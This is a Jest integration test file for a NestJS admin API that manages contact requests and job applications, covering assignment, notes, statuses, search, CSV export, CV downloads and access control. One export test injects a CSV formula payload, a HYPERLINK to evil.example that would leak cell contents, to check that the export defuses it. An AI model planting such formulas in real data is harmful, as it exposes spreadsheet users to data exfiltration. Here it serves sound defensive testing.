import { getConnectionToken } from '@nestjs/mongoose';
import { type SubmissionKind, submissionReceiptSchema } from '@farm/contract';
import { type Connection, Query, Types } from 'mongoose';
import { PasswordHasher } from '../src/auth/password-hasher';
import { TokenService } from '../src/auth/token.service';
import {
  EXPORT_BATCH_SIZE,
  SubmissionPipelineService,
  submissionQuery,
} from '../src/enquiries/submission-pipeline.service';
import { shopDateTime } from '../src/common/csv';
import { SessionsService } from '../src/sessions/sessions.service';
import { UsersService } from '../src/users/users.service';
import { type AccountsApp, bearer, nextVisitorAddress, startAccountsApp } from './auth-app';
import { expectErrorBody } from './support/expect-error';
import { cvFiles, fields, multipart, type Part } from './support/uploads';

const ADMIN = { email: 'pipelines.admin@farm-test.ae', password: 'harvest-2025' };

let api: AccountsApp;
let admin: { authorization: string };
let colleague: { id: string; name: string; headers: { authorization: string } };
let customer: { id: string; email: string; headers: { authorization: string } };
let sequence = 0;

/** A user of the given role with a session, made directly (signing up is tested elsewhere). */
async function user(role: 'Admin' | 'Customer', username: string) {
  sequence += 1;
  const email = `${username.toLowerCase()}.${Date.now().toString(36)}${sequence}@farm-test.ae`;
  const created = await api.app.get(UsersService).create({
    username,
    lastname: `Tester${sequence}`,
    email,
    passwordHash: await api.app.get(PasswordHasher).hash('greens2025'),
    role,
    emailVerified: true,
    language: 'en',
  });
  const sessionId = await api.app
    .get(SessionsService)
    .start(String(created._id), new Date(Date.now() + 3600_000), 'jest');
  const token = await api.app.get(TokenService).issue(created, sessionId);
  return { id: String(created._id), email, name: `${username} Tester${sequence}`, headers: bearer(token) };
}

function db() {
  return api.app.get<Connection>(getConnectionToken()).db!;
}

function post(path: string, parts: Part[], headers: Record<string, string> = {}) {
  const { body, contentType } = multipart(parts);
  return fetch(`${api.baseUrl}${path}`, {
    method: 'POST',
    headers: { 'content-type': contentType, 'x-forwarded-for': nextVisitorAddress(), ...headers },
    body: new Uint8Array(body),
  });
}

/** A contact request as a visitor sends it; returns its id. */
async function contact(name: string, email: string, headers: Record<string, string> = {}): Promise<string> {
  const res = await api.client.enquiries.getInTouch({
    body: { name, email, mobile: '0501234567', address: 'Dubai Marina' },
    extraHeaders: headers,
  });
  if (res.status !== 201) throw new Error(`getInTouch answered ${res.status}`);
  return res.body.data._id;
}

/** A job application with a PDF CV; returns its id. */
async function application(fullName: string, email: string): Promise<string> {
  const res = await post('/carrier/add', [
    ...fields({
      fullName,
      email,
      phone: '+971501234567',
      position: 'maintenance',
      experience: 'no',
      skills: 'Pumps',
      message: 'Hello',
    }),
    { name: 'resume', filename: 'Sara CV.pdf', type: 'application/pdf', data: cvFiles.pdf },
  ]);
  expect(res.status).toBe(201);
  return submissionReceiptSchema.parse(await res.json()).data._id;
}

/**
 * An export as the API sends it, byte for byte: the typed client reads the body as text, which drops a
 * leading byte-order mark. Uncompressed, as the web server asks for it.
 */
async function exportBytes(kind: SubmissionKind, query: Record<string, string>) {
  const res = await fetch(`${api.baseUrl}/admin/pipelines/${kind}/export?${new URLSearchParams(query)}`, {
    headers: { ...admin, 'accept-encoding': 'identity' },
  });
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

function list(kind: SubmissionKind, query: Record<string, string | number> = {}, headers = admin) {
  return api.client.pipelines.listSubmissions({
    params: { kind },
    query: query as never,
    extraHeaders: headers,
  });
}

beforeAll(async () => {
  api = await startAccountsApp({ ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password });
  const signin = await api.client.auth.signin({ body: ADMIN });
  if (signin.status !== 200) throw new Error(`admin signin answered ${signin.status}`);
  admin = bearer(signin.body.token);
  colleague = await user('Admin', 'Noura');
  customer = await user('Customer', 'Hamad');
});

afterAll(async () => {
  await api?.close();
});

describe('the admin pipelines', () => {
  it('moves a request through the pipeline with notes and an assignee, and records every change', async () => {
    const id = await contact('Layla Hassan', customer.email, customer.headers);
    const status = (value: 'contacted' | 'quoted' | 'won') =>
      api.client.pipelines.changeSubmissionStatus({
        params: { id },
        body: { status: value },
        extraHeaders: admin,
      });

    const admins = await api.client.pipelines.listAdmins({ extraHeaders: admin });
    if (admins.status !== 200) throw new Error(`listAdmins answered ${admins.status}`);
    expect(admins.body.data.map((one) => one._id)).toContain(colleague.id);

    const assigned = await api.client.pipelines.assignSubmission({
      params: { id },
      body: { assigneeId: colleague.id },
      extraHeaders: admin,
    });
    expect(assigned.status).toBe(200);
    if (assigned.status === 200) {
      expect(assigned.body.code).toBe('submissionAssigned');
      expect(assigned.body.data.assignee).toEqual({
        _id: colleague.id,
        name: colleague.name,
        email: expect.any(String),
      });
    }

    for (const value of ['contacted', 'quoted'] as const) expect((await status(value)).status).toBe(200);
    const note = await api.client.pipelines.addSubmissionNote({
      params: { id },
      body: { text: 'Called her: wants a 2 m tower.\nSend the quote by Friday.' },
      extraHeaders: colleague.headers,
    });
    expect(note.status).toBe(201);
    const won = await status('won');
    if (won.status !== 200) throw new Error(`status answered ${won.status}`);
    expect(won.body.data).toMatchObject({ status: 'won', assignee: { _id: colleague.id } });
    expect(won.body.data.notes).toEqual([
      {
        _id: expect.any(String),
        text: 'Called her: wants a 2 m tower.\nSend the quote by Friday.',
        at: expect.any(String),
        author: { _id: colleague.id, name: colleague.name, email: expect.any(String) },
      },
    ]);

    // Saving the status it already has changes nothing and records nothing.
    expect((await status('won')).status).toBe(200);

    const one = await api.client.pipelines.getSubmission({ params: { id }, extraHeaders: admin });
    if (one.status !== 200) throw new Error(`getSubmission answered ${one.status}`);
    expect(one.body.data).toMatchObject({
      kind: 'contact',
      status: 'won',
      customerId: customer.id,
      sender: { name: 'Layla Hassan', email: customer.email },
      fields: { name: 'Layla Hassan', mobile: '0501234567', address: 'Dubai Marina' },
    });

    // The customer sees Closed, never the team's notes or its assignee.
    const mine = await api.client.enquiries.listMySubmissions({ query: {}, extraHeaders: customer.headers });
    if (mine.status !== 200) throw new Error(`listMySubmissions answered ${mine.status}`);
    const seen = mine.body.data.find((item) => item._id === id);
    expect(seen?.status).toBe('closed');
    expect(JSON.stringify(mine.body)).not.toContain('Called her');
    expect(JSON.stringify(mine.body)).not.toContain(colleague.name);

    const trail = await api.client.admin.listAuditTrail({
      query: { kind: 'submission', recordId: id },
      extraHeaders: admin,
    });
    if (trail.status !== 200) throw new Error(`listAuditTrail answered ${trail.status}`);
    expect(
      trail.body.data.map(({ action, detail, fields: changed, actor }) => [
        action,
        detail,
        changed,
        actor.id,
      ]),
    ).toEqual([
      ['statusChanged', 'Won', ['status'], expect.any(String)],
      ['noteAdded', '', ['notes'], colleague.id],
      ['statusChanged', 'Quoted', ['status'], expect.any(String)],
      ['statusChanged', 'Contacted', ['status'], expect.any(String)],
      ['assigned', colleague.name, ['assignee'], expect.any(String)],
    ]);

    const unassigned = await api.client.pipelines.assignSubmission({
      params: { id },
      body: {},
      extraHeaders: admin,
    });
    if (unassigned.status !== 200) throw new Error(`assign answered ${unassigned.status}`);
    expect(unassigned.body.data.assignee).toBeUndefined();
  });

  it("keeps an admin's assignment that another admin's change would have undone unseen", async () => {
    const id = await contact('Sara Race', `sara.race.${Date.now()}@farm-test.ae`);
    const assign = (assigneeId?: string) =>
      api.client.pipelines.assignSubmission({
        params: { id },
        body: assigneeId ? { assigneeId } : {},
        extraHeaders: admin,
      });
    expect((await assign(colleague.id)).status).toBe(200);
    // Admin B asks for the colleague again, having read the request assigned to them; admin A's
    // "unassigned" lands between B's read and B's write.
    const users = api.app.get(UsersService);
    const findById = users.findById.bind(users);
    const between = jest.spyOn(users, 'findById').mockImplementationOnce(async (userId) => {
      expect((await assign()).status).toBe(200);
      return findById(userId);
    });
    try {
      const again = await assign(colleague.id);
      expect(again.status === 200 && again.body.data.assignee?._id).toBe(colleague.id);
    } finally {
      between.mockRestore();
    }
    const now = await api.client.pipelines.getSubmission({ params: { id }, extraHeaders: admin });
    expect(now.status === 200 && now.body.data.assignee?._id).toBe(colleague.id);
    // The same choice once more changes nothing and records nothing.
    expect((await assign(colleague.id)).status).toBe(200);
    const trail = await api.client.admin.listAuditTrail({
      query: { kind: 'submission', recordId: id },
      extraHeaders: admin,
    });
    expect(trail.status === 200 && trail.body.data.map((entry) => entry.action)).toEqual([
      'assigned',
      'unassigned',
      'assigned',
    ]);
  });

  it('refuses a customer as assignee, an empty note, an unknown status and an unknown request', async () => {
    const id = await contact('Khalid Omar', `khalid.${Date.now()}@farm-test.ae`);
    const notAdmin = await api.client.pipelines.assignSubmission({
      params: { id },
      body: { assigneeId: customer.id },
      extraHeaders: admin,
    });
    expect(notAdmin.status).toBe(422);
    expectErrorBody(notAdmin.body, 422, 'Only an admin can be assigned a request.');

    const blank = await api.client.pipelines.addSubmissionNote({
      params: { id },
      body: { text: '   ' },
      extraHeaders: admin,
    });
    expect(blank.status).toBe(400);
    const long = await api.client.pipelines.addSubmissionNote({
      params: { id },
      body: { text: 'x'.repeat(2001) },
      extraHeaders: admin,
    });
    expect(long.status).toBe(400);

    const unknown = await fetch(`${api.baseUrl}/admin/submissions/${id}/status`, {
      method: 'PATCH',
      headers: { ...admin, 'content-type': 'application/json' },
      body: JSON.stringify({ status: 'in-progress' }),
    });
    expect(unknown.status).toBe(400);

    const missing = await api.client.pipelines.getSubmission({
      params: { id: String(new Types.ObjectId()) },
      extraHeaders: admin,
    });
    expect(missing.status).toBe(404);
    expectErrorBody(missing.body, 404, 'Request not found');
    const trail = await api.client.admin.listAuditTrail({
      query: { kind: 'submission', recordId: id },
      extraHeaders: admin,
    });
    expect(trail.status === 200 && trail.body.total).toBe(0);
  });

  it('finds a sender written in Arabic however the search writes its alef and hamza', async () => {
    const tag = `ar${Date.now().toString(36)}`;
    const id = await contact(`أحمد ${tag}`, `${tag}@farm-test.ae`);
    const found = await list('contact', { search: `احمد ${tag}` });
    expect(found.status === 200 && found.body.data.map((row) => row._id)).toEqual([id]);
  });

  it('filters by status, assignee, days and sender, newest first, a page at a time', async () => {
    const tag = `filt${Date.now().toString(36)}`;
    const ids: string[] = [];
    for (let i = 0; i < 5; i += 1) ids.push(await contact(`Filter ${tag} ${i}`, `${tag}.${i}@farm-test.ae`));
    await api.client.pipelines.changeSubmissionStatus({
      params: { id: ids[1]! },
      body: { status: 'quoted' },
      extraHeaders: admin,
    });
    await api.client.pipelines.changeSubmissionStatus({
      params: { id: ids[3]! },
      body: { status: 'quoted' },
      extraHeaders: admin,
    });
    await api.client.pipelines.assignSubmission({
      params: { id: ids[3]! },
      body: { assigneeId: colleague.id },
      extraHeaders: admin,
    });
    // One of them arrived long ago.
    await db()
      .collection('submissions')
      .updateOne(
        { _id: new Types.ObjectId(ids[0]) },
        { $set: { createdAt: new Date('2025-03-10T21:30:00Z') } },
      );

    const all = await list('contact', { search: tag });
    if (all.status !== 200) throw new Error(`list answered ${all.status}`);
    expect(all.body.total).toBe(5);
    expect(all.body.data.map((row) => row._id)).toEqual([ids[4], ids[3], ids[2], ids[1], ids[0]]);
    expect(all.body.data[1]).toMatchObject({
      status: 'quoted',
      assignee: { _id: colleague.id },
      notes: 0,
      files: 0,
    });

    // The reference the sender's acknowledgement gave them, as they would quote it, finds that request.
    const byReference = await list('contact', { search: ` ${ids[1]!.toUpperCase()} ` });
    expect(byReference.status === 200 && byReference.body.data.map((row) => row._id)).toEqual([ids[1]]);
    const otherKind = await list('enquiry', { search: ids[1]! });
    expect(otherKind.status === 200 && otherKind.body.total).toBe(0);

    const byEmail = await list('contact', { search: `${tag}.2@FARM` });
    expect(byEmail.status === 200 && byEmail.body.data.map((row) => row._id)).toEqual([ids[2]]);
    // Each word on its own, in any order, each in the name or the e-mail.
    const byWords = await list('contact', { search: `${tag}.3@farm-test.ae  filter` });
    expect(byWords.status === 200 && byWords.body.data.map((row) => row._id)).toEqual([ids[3]]);

    const quoted = await list('contact', { search: tag, status: 'quoted' });
    expect(quoted.status === 200 && quoted.body.data.map((row) => row._id)).toEqual([ids[3], ids[1]]);

    const mine = await list('contact', { search: tag, assignee: colleague.id });
    expect(mine.status === 200 && mine.body.data.map((row) => row._id)).toEqual([ids[3]]);
    const nobody = await list('contact', { search: tag, assignee: 'none' });
    expect(nobody.status === 200 && nobody.body.total).toBe(4);

    // 21:30 UTC on 10 March is 11 March in Dubai: the company's days decide.
    const day = await list('contact', { search: tag, from: '2025-03-11', to: '2025-03-11' });
    expect(day.status === 200 && day.body.data.map((row) => row._id)).toEqual([ids[0]]);
    const before = await list('contact', { search: tag, to: '2025-03-10' });
    expect(before.status === 200 && before.body.total).toBe(0);
    const recent = await list('contact', { search: tag, from: '2025-03-12' });
    expect(recent.status === 200 && recent.body.total).toBe(4);

    const paged = await list('contact', { search: tag, limit: 2, page: 3 });
    expect(paged.status === 200 && paged.body).toMatchObject({
      page: 3,
      pages: 3,
      total: 5,
      data: [{ _id: ids[0] }],
    });

    // Another kind's list does not show them.
    const applications = await list('application', { search: tag });
    expect(applications.status === 200 && applications.body.total).toBe(0);

    for (const query of [
      { from: '2025-02-31' },
      { to: '24/11/2026' },
      { from: '2025-03-12', to: '2025-03-11' },
      { status: 'closed' },
      { assignee: 'someone' },
    ]) {
      const bad = await list('contact', query as unknown as Record<string, string>);
      expect(bad.status).toBe(400);
    }
    const reversed = await list('contact', { from: '2025-03-12', to: '2025-03-11' });
    expect(reversed.body).toMatchObject({ issues: [{ path: 'to', code: 'dateRangeReversed' }] });
  });

  it('exports CSV with the same filters, every field, and formulas defused', async () => {
    const tag = `csv${Date.now().toString(36)}`;
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const id = await contact(evil, `${tag}@farm-test.ae`);
    await contact(`Plain ${tag}`, `${tag}.plain@farm-test.ae`);
    await api.client.pipelines.addSubmissionNote({
      params: { id },
      body: { text: '+1 call back, "urgent"' },
      extraHeaders: admin,
    });
    const res = await api.client.pipelines.exportSubmissions({
      params: { kind: 'contact' },
      query: { search: tag },
      extraHeaders: admin,
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="contact-requests-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers.get('cache-control')).toBe('no-store');
    const csv = res.body as string;
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(
      'Reference,Received (UAE time),Status,Assignee,Sender,Sender e-mail,Sender phone,Signed-in customer,Language,Name,E-mail,Mobile,Address,Message,Files,Notes',
    );
    // Two requests and a closing CRLF; the evil one is the newer but was made first: oldest last.
    expect(lines).toHaveLength(4);
    const evilRow = lines.find((line) => line.startsWith(id));
    expect(evilRow).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(evilRow).not.toMatch(/,=HYPERLINK/);
    expect(evilRow).toContain(',New,,');
    // The mobile number stays text in a spreadsheet: its leading 0 kept.
    expect(evilRow).toContain(',"=""0501234567""",');
    // Received on the shop's clock, as the admin screens show it (UTC+4).
    const received = await db()
      .collection('submissions')
      .findOne({ _id: new Types.ObjectId(id) });
    expect(evilRow).toContain(`,${shopDateTime(received?.createdAt as Date)},`);
    // The note is a cell that starts with its time, so it is not guarded; the "+1" inside stays as typed.
    expect(evilRow).toMatch(/: \+1 call back, ""urgent"""$/);

    const filtered = await api.client.pipelines.exportSubmissions({
      params: { kind: 'contact' },
      query: { search: `${tag}.plain` },
      extraHeaders: admin,
    });
    expect((filtered.body as string).split('\r\n')).toHaveLength(3);

    const applicationId = await application('+SUM(A1:A9)', `${tag}.cv@farm-test.ae`);
    const cvs = await api.client.pipelines.exportSubmissions({
      params: { kind: 'application' },
      query: { search: `${tag}.cv` },
      extraHeaders: admin,
    });
    const [header, row] = (cvs.body as string).split('\r\n');
    expect(header).toContain('Full name,E-mail,Phone,Position,Experience,Experience details,Skills,Message');
    expect(row).toMatch(new RegExp(`^${applicationId},`));
    expect(row).toContain(",'+SUM(A1:A9),");
    expect(row).toContain(',Maintenance,No,,Pumps,Hello,Sara CV.pdf,');
  });

  it('starts an export with the byte-order mark, typed as UTF-8, and keeps Arabic byte for byte', async () => {
    const tag = `bom${Date.now().toString(36)}`;
    const name = 'سارة الهاشمي';
    const message = 'نريد مزرعة مائية على السطح، ٣ أبراج';
    const res = await api.client.enquiries.getInTouch({
      body: { name, email: `${tag}@farm-test.ae`, mobile: '0501234567', address: 'دبي مارينا', message },
    });
    expect(res.status).toBe(201);
    const id = res.status === 201 ? res.body.data._id : '';

    const { res: answer, bytes } = await exportBytes('contact', { search: tag });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    // The mark once, then the header row: a spreadsheet reads the file as UTF-8.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3, 13).toString('utf8')).toBe('Reference,');
    expect(bytes.indexOf(BOM, 3)).toBe(-1);
    const [header, row, end] = bytes.subarray(3).toString('utf8').split('\r\n');
    expect(header).toMatch(/^Reference,Received \(UAE time\),Status,/);
    expect(end).toBe('');
    expect(row).toMatch(new RegExp(`^${id},`));
    // The sender's Arabic goes out as the UTF-8 it came in (the Arabic comma is no separator).
    for (const text of [name, 'دبي مارينا', message])
      expect(bytes.includes(Buffer.from(`,${text},`, 'utf8'))).toBe(true);
  });

  it('exports more requests than one read of the database brings, whole and newest first', async () => {
    const tag = `bulk${Date.now().toString(36)}`;
    const count = EXPORT_BATCH_SIZE * 2 + 7;
    const start = Date.parse('2025-06-01T08:00:00.000Z');
    // Three requests to a second: those of one second come by their ids, the newest first.
    const docs = Array.from({ length: count }, (_, i) => {
      const at = new Date(start + Math.floor(i / 3) * 1000);
      const email = `${tag}.${i}@farm-test.ae`;
      return {
        _id: new Types.ObjectId(),
        kind: 'contact',
        status: 'new',
        sender: { name: `Bulk ${i}`, email, phone: '0501234567' },
        language: 'en',
        fields: { name: `Bulk ${i}`, email, mobile: '0501234567', address: 'عنوان' },
        files: [],
        notes: [],
        history: [],
        createdAt: at,
        updatedAt: at,
      };
    });
    // Stored out of order, so the file's order is the export's doing.
    const stored = [...docs.filter((_, i) => i % 2), ...docs.filter((_, i) => i % 2 === 0).reverse()];
    await db().collection('submissions').insertMany(stored);

    const { res, bytes } = await exportBytes('contact', { search: tag });
    expect(res.status).toBe(200);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').split('\r\n');
    expect(lines.at(-1)).toBe('');
    const rows = lines.slice(1, -1);
    const newestFirst = [...docs]
      .sort(
        (a, b) => b.createdAt.getTime() - a.createdAt.getTime() || (String(b._id) < String(a._id) ? -1 : 1),
      )
      .map((doc) => String(doc._id));
    expect(rows.map((row) => row.slice(0, 24))).toEqual(newestFirst);
    // Every row whole: the oldest, last, with each of its cells.
    const oldest = docs[0]!;
    expect(rows.at(-1)).toBe(
      [
        String(oldest._id),
        shopDateTime(oldest.createdAt),
        'New,,Bulk 0',
        `${tag}.0@farm-test.ae`,
        '"=""0501234567"""',
        'No,English,Bulk 0',
        `${tag}.0@farm-test.ae`,
        '"=""0501234567"""',
        'عنوان,,,',
      ].join(','),
    );
    await db()
      .collection('submissions')
      .deleteMany({ _id: { $in: docs.map((doc) => doc._id) } });
  });

  it('answers a failure before the first byte as an error, and cuts off an export that fails later', async () => {
    const tag = `fail${Date.now().toString(36)}`;
    await contact(`Broken ${tag}`, `${tag}.1@farm-test.ae`);
    await contact(`Broken ${tag}`, `${tag}.2@farm-test.ae`);
    // The export's next cursor fails on its read number `failing` (1: the first).
    const realCursor = Query.prototype.cursor;
    const failOnRead = (failing: number) =>
      jest.spyOn(Query.prototype, 'cursor').mockImplementationOnce(function (this: Query<unknown, unknown>) {
        const cursor = realCursor.call(this);
        const next = cursor.next.bind(cursor);
        let reads = 0;
        cursor.next = () => (++reads === failing ? Promise.reject(new Error('connection lost')) : next());
        return cursor;
      });
    const url = `${api.baseUrl}/admin/pipelines/contact/export?search=${tag}`;
    const headers = { ...admin, 'accept-encoding': 'identity' };
    try {
      failOnRead(1);
      const before = await fetch(url, { headers });
      expect(before.status).toBe(500);
      expect(before.headers.get('content-disposition')).toBeNull();
      expectErrorBody(await before.json(), 500);

      failOnRead(2);
      const after = await fetch(url, { headers });
      expect(after.status).toBe(200);
      // The header row went out, then the answer stops short of its end: never a file that looks whole.
      await expect(after.arrayBuffer()).rejects.toThrow();
    } finally {
      jest.restoreAllMocks();
    }
    const { res, bytes } = await exportBytes('contact', { search: tag });
    expect(res.status).toBe(200);
    expect(bytes.subarray(3).toString('utf8').split('\r\n')).toHaveLength(4);
  });

  it('hands a CV to admins only, as an attachment; the public route never serves it', async () => {
    const id = await application('Sara Ali', `sara.${Date.now()}@farm-test.ae`);
    const one = await api.client.pipelines.getSubmission({ params: { id }, extraHeaders: admin });
    if (one.status !== 200) throw new Error(`getSubmission answered ${one.status}`);
    const [file] = one.body.data.files;
    expect(file).toMatchObject({ field: 'resume', name: 'Sara CV.pdf', contentType: 'application/pdf' });
    const url = `${api.baseUrl}/admin/submissions/${id}/files/${file!.fileId}`;

    const download = await fetch(url, { headers: admin });
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toBe('application/octet-stream');
    expect(download.headers.get('content-disposition')).toBe(
      `attachment; filename="Sara_CV.pdf"; filename*=UTF-8''Sara%20CV.pdf`,
    );
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    expect(download.headers.get('cache-control')).toBe('no-store');
    expect(Buffer.from(await download.arrayBuffer()).equals(cvFiles.pdf)).toBe(true);

    expect((await fetch(url)).status).toBe(401);
    expect((await fetch(url, { headers: customer.headers })).status).toBe(403);
    const publicRoute = await fetch(`${api.baseUrl}/files/${file!.fileId}`);
    expect(publicRoute.status).toBe(404);

    // A file id that belongs to another request is not found through this one.
    const other = await contact('Nobody', `nobody.${Date.now()}@farm-test.ae`);
    expect(
      (await fetch(`${api.baseUrl}/admin/submissions/${other}/files/${file!.fileId}`, { headers: admin }))
        .status,
    ).toBe(404);
  });

  it('deletes a request for good with its CV and notes, and the trail says who did, not what it held', async () => {
    const id = await application('Erased Applicant', `erased.${Date.now()}@farm-test.ae`);
    await api.client.pipelines.addSubmissionNote({
      params: { id },
      body: { text: 'Call back' },
      extraHeaders: admin,
    });
    const one = await api.client.pipelines.getSubmission({ params: { id }, extraHeaders: admin });
    if (one.status !== 200) throw new Error(`getSubmission answered ${one.status}`);
    const fileId = one.body.data.files[0]!.fileId;

    // Not from another kind's list: a request is handled where it is shown.
    const elsewhere = await api.client.pipelines.deleteSubmission({
      params: { kind: 'contact', id },
      extraHeaders: admin,
    });
    expect(elsewhere.status).toBe(404);
    const removed = await api.client.pipelines.deleteSubmission({
      params: { kind: 'application', id },
      extraHeaders: admin,
    });
    expect(removed).toMatchObject({ status: 200, body: { code: 'submissionDeleted' } });
    expect((await api.client.pipelines.getSubmission({ params: { id }, extraHeaders: admin })).status).toBe(
      404,
    );
    expect(
      await db()
        .collection('submissions')
        .findOne({ _id: new Types.ObjectId(id) }),
    ).toBeNull();
    expect(
      await db()
        .collection('files.files')
        .findOne({ _id: new Types.ObjectId(fileId) }),
    ).toBeNull();
    expect(
      await db()
        .collection('files.chunks')
        .findOne({ files_id: new Types.ObjectId(fileId) }),
    ).toBeNull();
    const trail = await db().collection('auditTrail').find({ recordId: id }).sort({ at: -1 }).toArray();
    expect(trail[0]).toMatchObject({ kind: 'submission', action: 'deleted', detail: '' });
    expect(JSON.stringify(trail)).not.toMatch(/Erased|Call back/);

    const again = await api.client.pipelines.deleteSubmission({
      params: { kind: 'application', id },
      extraHeaders: admin,
    });
    expect(again.status).toBe(404);
  });

  it('keeps every pipeline route to admins', async () => {
    const id = await contact('Guarded', `guarded.${Date.now()}@farm-test.ae`);
    const calls = [
      (h: Record<string, string>) => api.client.pipelines.listAdmins({ extraHeaders: h }),
      (h: Record<string, string>) => list('contact', {}, h as typeof admin),
      (h: Record<string, string>) =>
        api.client.pipelines.exportSubmissions({ params: { kind: 'contact' }, query: {}, extraHeaders: h }),
      (h: Record<string, string>) => api.client.pipelines.getSubmission({ params: { id }, extraHeaders: h }),
      (h: Record<string, string>) =>
        api.client.pipelines.changeSubmissionStatus({
          params: { id },
          body: { status: 'lost' },
          extraHeaders: h,
        }),
      (h: Record<string, string>) =>
        api.client.pipelines.addSubmissionNote({ params: { id }, body: { text: 'x' }, extraHeaders: h }),
      (h: Record<string, string>) =>
        api.client.pipelines.assignSubmission({ params: { id }, body: {}, extraHeaders: h }),
      (h: Record<string, string>) =>
        api.client.pipelines.deleteSubmission({ params: { kind: 'contact', id }, extraHeaders: h }),
    ];
    for (const call of calls) {
      expect((await call({})).status).toBe(401);
      expect((await call(customer.headers)).status).toBe(403);
    }
    const stored = await db()
      .collection('submissions')
      .findOne({ _id: new Types.ObjectId(id) });
    expect(stored).toMatchObject({ status: 'new', notes: [] });
  });

  it('walks an index for every filter, newest first', async () => {
    const filters = [
      {},
      { status: 'quoted' as const },
      { assignee: colleague.id },
      { assignee: 'none' as const },
      { from: '2025-03-01', to: '2025-03-31' },
      { status: 'won' as const, from: '2025-03-01' },
    ];
    for (const filter of filters) {
      const plan = JSON.stringify(
        await db()
          .collection('submissions')
          .find(submissionQuery('contact', filter) as Record<string, unknown>)
          .sort({ createdAt: -1, _id: -1 })
          .limit(20)
          .explain(),
      );
      expect(plan).toContain('IXSCAN');
      // The index gives the order: nothing is sorted in memory.
      expect(plan).not.toContain('"SORT"');
    }
    // A search reads the kind's entries of an index and filters them (the embedded database's planner
    // walks no index for an $or; MongoDB's can).
    const search = await db()
      .collection('submissions')
      .find(submissionQuery('contact', { search: 'layla' }) as Record<string, unknown>)
      .sort({ createdAt: -1, _id: -1 })
      .explain();
    expect(JSON.stringify(search)).toContain('IXSCAN');
  });

  it('moves the statuses of the first version to the pipeline on start', async () => {
    const first = await contact('Legacy One', `legacy1.${Date.now()}@farm-test.ae`);
    const second = await contact('Legacy Two', `legacy2.${Date.now()}@farm-test.ae`);
    const submissions = db().collection('submissions');
    await submissions.updateOne({ _id: new Types.ObjectId(first) }, { $set: { status: 'in-progress' } });
    await submissions.updateOne({ _id: new Types.ObjectId(second) }, { $set: { status: 'closed' } });
    await api.app.get(SubmissionPipelineService).onApplicationBootstrap();
    expect((await submissions.findOne({ _id: new Types.ObjectId(first) }))?.status).toBe('contacted');
    expect((await submissions.findOne({ _id: new Types.ObjectId(second) }))?.status).toBe('lost');
    expect(await submissions.countDocuments({ status: { $in: ['in-progress', 'closed'] } })).toBe(0);
  });
  it('moves a job application through the hiring statuses and a lead through the sales ones only', async () => {
    const applicant = await application('Huda Karim', `huda.${Date.now()}@farm-test.ae`);
    const lead = await contact('Omar Saleh', `omar.${Date.now()}@farm-test.ae`);
    const move = (id: string, status: string) =>
      fetch(`${api.baseUrl}/admin/submissions/${id}/status`, {
        method: 'PATCH',
        headers: { ...admin, 'content-type': 'application/json' },
        body: JSON.stringify({ status }),
      });

    const interview = await move(applicant, 'interview');
    expect(interview.status).toBe(200);
    expect((await interview.json()).data.status).toBe('interview');
    for (const [id, status] of [
      [applicant, 'won'],
      [lead, 'hired'],
    ] as const) {
      const refused = await move(id, status);
      expect(refused.status).toBe(400);
      expectErrorBody(await refused.json(), 400, 'That status is not one of this pipeline’s.');
    }
    const stored = await api.client.pipelines.getSubmission({
      params: { id: applicant },
      extraHeaders: admin,
    });
    expect(stored.status === 200 && stored.body.data.status).toBe('interview');

    // The sender sees their application in progress.
    const filtered = await api.client.pipelines.listSubmissions({
      params: { kind: 'application' },
      query: { status: 'interview' },
      extraHeaders: admin,
    });
    expect(filtered.status === 200 && filtered.body.data.map((row) => row._id)).toContain(applicant);
  });

  it('moves job applications stored on the sales statuses to the hiring ones on start', async () => {
    const ids = await Promise.all(
      ['contacted', 'quoted', 'won', 'lost'].map((_, n) =>
        application(`Older Applicant ${n}`, `older.${n}.${Date.now()}@farm-test.ae`),
      ),
    );
    const lead = await contact('Lead Kept', `kept.${Date.now()}@farm-test.ae`);
    const submissions = db().collection('submissions');
    for (const [n, status] of ['contacted', 'quoted', 'won', 'lost'].entries())
      await submissions.updateOne({ _id: new Types.ObjectId(ids[n]) }, { $set: { status } });
    await submissions.updateOne({ _id: new Types.ObjectId(lead) }, { $set: { status: 'won' } });
    await api.app.get(SubmissionPipelineService).onApplicationBootstrap();
    const statuses = await Promise.all(
      ids.map(async (id) => (await submissions.findOne({ _id: new Types.ObjectId(id) }))?.status),
    );
    expect(statuses).toEqual(['reviewing', 'offer', 'hired', 'rejected']);
    expect((await submissions.findOne({ _id: new Types.ObjectId(lead) }))?.status).toBe('won');
  });
});
